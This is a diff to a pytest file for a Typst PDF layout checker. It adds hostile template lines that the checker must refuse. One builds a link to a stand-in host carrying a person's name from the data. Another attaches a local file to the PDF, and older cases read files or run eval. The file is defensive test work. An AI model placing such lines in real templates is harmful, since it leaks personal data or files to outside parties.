@@ -89,7 +89,7 @@ HEAD = "#let form(d) = { text(\"一\") }\n"
 
 
 @pytest.mark.parametrize("line", [
-    '#let u = "//"; #read("/lib.typ")', '#let u = "http://x"; #import "@preview/cetz:0.3.0": *', '#link("http://x")[a #import "@preview/cetz:0.3.0"]', '"#let u = "//" ; #include "/lib.typ"', "// import", '/* // */ #eval("1")',
+    '#let u = "//"; #read("/lib.typ")', '#let u = "http://x"; #import "@preview/cetz:0.3.0": *', '#link("http://x")[a #import "@preview/cetz:0.3.0"]', '"#let u = "//" ; #include "/lib.typ"', "// import", '#link("http://e.invalid/?" + d.who.name)[x]', '#pdf.attach("/a.txt", bytes("x"))', "#show link: it => it", '/* // */ #eval("1")',
 ])
 def test_a_layout_for_pdf_hides_nothing_behind_two_slashes(line: str) -> None:
     with pytest.raises(Refused) as caught:
